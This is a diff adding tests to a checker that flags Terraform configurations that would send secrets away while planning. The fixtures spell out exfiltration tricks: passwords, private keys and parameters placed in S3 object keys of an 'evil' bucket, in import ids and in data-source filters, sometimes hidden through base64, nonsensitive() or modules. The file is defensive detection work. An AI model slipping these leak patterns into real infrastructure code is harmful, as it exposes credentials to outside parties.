@@ -491,6 +491,122 @@ test('an address is that of a state only where nothing else decides which machin
   expect(found('https://${local.host}', { locals: { host: `evil.example/\${${own}}` } })).toHaveLength(1);
 });
 
+const variable = { password: { sensitive: true }, given: {}, stage: { default: 'dev' } };
+const asking = (type: string, body: object, more: object = {}): object => ({ variable, ...more, data: { [type]: { x: body } } });
+const object = (key: string, more: object = {}): object => asking('aws_s3_object', { bucket: 'evil', key }, more);
+
+test.each<[string, object, string]>([
+  ['the key of an object', object('${var.password}'), 'data.aws_s3_object.x.key would send var.password away'],
+  [
+    'a prefix to list, in an array, through base64 and a local',
+    {
+      variable,
+      locals: [{ a: '${base64encode(local.b)}' }, { b: 'x-${var.password}' }],
+      data: [{ aws_s3_objects: [{ x: [{ bucket: 'evil', prefix: '${local.a}' }] }] }],
+    },
+    'data.aws_s3_objects.x.prefix would send var.password away',
+  ],
+  ['what whoever plans gives', object('${var.given}'), 'data.aws_s3_object.x.key would send var.given away'],
+  ['the name of a bucket', asking('aws_s3_bucket', { bucket: '${var.password}' }), 'data.aws_s3_bucket.x.bucket would send'],
+  ['a value of a parameter', object('${data.aws_ssm_parameter.p.value}'), 'would send data.aws_ssm_parameter.p.value away'],
+  [
+    'an output of another state',
+    object('${data.terraform_remote_state.s.outputs.id}'),
+    'would send data.terraform_remote_state.s.outputs.id away',
+  ],
+  ['a generated password by its index', object('${random_password.p[0].result}'), 'would send random_password.p.result away'],
+  ['a whole resource as JSON', object('${jsonencode(tls_private_key.k)}'), 'would send tls_private_key.k away'],
+  [
+    'the id that holds a secret, of something made before',
+    object('${random_pet.p.id}', { resource: { random_pet: { p: { prefix: '${var.password}' } } } }),
+    'would send var.password away',
+  ],
+  [
+    'an echo',
+    object('${terraform_data.e.output}', { resource: { terraform_data: { e: { input: { deep: ['${var.password}'] } } } } }),
+    'would send var.password away',
+  ],
+  ['a mark taken off', object('${nonsensitive(local.x)}', { locals: { x: 'x' } }), 'would send ${nonsensitive(local.x)} away'],
+  [
+    'each of several keys',
+    asking('aws_s3_object', { for_each: '${toset([nonsensitive(var.password)])}', bucket: 'evil', key: '${each.key}' }),
+    'data.aws_s3_object.x.key would send',
+  ],
+  [
+    'a dynamic block of any other data source',
+    asking('aws_ami', { dynamic: { filter: [{ for_each: ['${var.password}'], content: { values: ['${filter.value}'] } }] } }),
+    'data.aws_ami.x.filter would send var.password away',
+  ],
+  [
+    'the name of a parameter of any account',
+    asking('aws_ssm_parameter', { name: 'arn:aws:ssm:eu-central-1:1:parameter/${var.password}' }),
+    'data.aws_ssm_parameter.x.name would',
+  ],
+  [
+    'a key of a map',
+    asking('aws_kms_ciphertext', { key_id: 'k', context: { '${var.password}': 'x' } }),
+    'data.aws_kms_ciphertext.x.context would',
+  ],
+  [
+    'an ephemeral resource',
+    { variable, ephemeral: { aws_ssm_parameter: { x: { arn: 'arn:${var.password}' } } } },
+    'ephemeral.aws_ssm_parameter.x.arn would',
+  ],
+  [
+    'an ephemeral value',
+    asking('aws_ssm_parameter', { name: '${ephemeral.random_password.p.result}' }),
+    'would send ephemeral.random_password.p.result away',
+  ],
+  [
+    'the object that is imported',
+    {
+      variable,
+      import: [{ to: 'aws_s3_object.x', id: 'evil/${var.given}' }],
+      resource: { aws_s3_object: { x: { bucket: 'evil', key: 'k' } } },
+    },
+    'import.aws_s3_object.x.id would send var.given away',
+  ],
+  [
+    'the name of something that is imported',
+    { variable, import: { to: 'aws_iam_role.x', id: '${var.password}' } },
+    'import.aws_iam_role.x.id would send',
+  ],
+])('a secret that would be sent away in what is asked for while planning is found: %s', (_name, blocks, expected) => {
+  expect(found(blocks)).toEqual([expect.stringContaining(expected)]);
+});
+
+test('a secret is followed into a module that asks, and what a module’s own variable is declared sensitive for is one', () => {
+  const inner = {
+    variable: { key: {}, own: { sensitive: true } },
+    data: { aws_ami: { a: { owners: ['${var.key}'] }, b: { owners: ['${var.own}'] } } },
+  };
+  expect(
+    found({ variable, module: { m: { source: './m', key: '${var.password}', own: 'x' } } }, { 'm/main.tf.json': JSON.stringify(inner) }),
+  ).toEqual([
+    'data.aws_ami.a.owners would send var.password away while planning',
+    'data.aws_ami.b.owners would send var.own away while planning',
+  ]);
+});
+
+test('what holds no secret may be asked for: ids and names of things, the unit’s own bucket, what is worked out on the machine', () => {
+  const resource = {
+    aws_s3_bucket: { own: { bucket: 'own-${var.given}' } },
+    aws_db_instance: { db: { password: '${var.password}', manage_master_user_password: true } },
+    random_id: { suffix: { byte_length: 4 } },
+  };
+  for (const blocks of [
+    object('${var.stage}/code-${random_id.suffix.hex}.zip', { resource }),
+    object('${data.aws_caller_identity.me.account_id}/${path.module}'),
+    asking('aws_s3_object', { bucket: '${aws_s3_bucket.own.id}', key: '${var.given}' }, { resource }),
+    asking('aws_secretsmanager_secret_version', { secret_id: '${aws_db_instance.db.master_user_secret[0].secret_arn}' }, { resource }),
+    asking('aws_db_instance', { db_instance_identifier: '${aws_db_instance.db.id}' }, { resource }),
+    asking('aws_iam_policy_document', { statement: [{ resources: ['${var.password}'] }] }),
+    asking('aws_subnets', { filter: [{ name: 'vpc-id', values: ['${var.given}'] }] }),
+    asking('aws_kms_alias', { name: 'alias/${var.given}' }),
+  ])
+    expect([blocks, found(blocks)]).toEqual([blocks, []]);
+});
+
 /** Names of the arguments of a provider's block that hold texts, from its bindings. */
 function argumentsIn(file: string): readonly string[] {
   const text = readFileSync(file, 'utf8').replace(/export interface AwsProviderEndpoints \{[^]*?\n\}/, '');
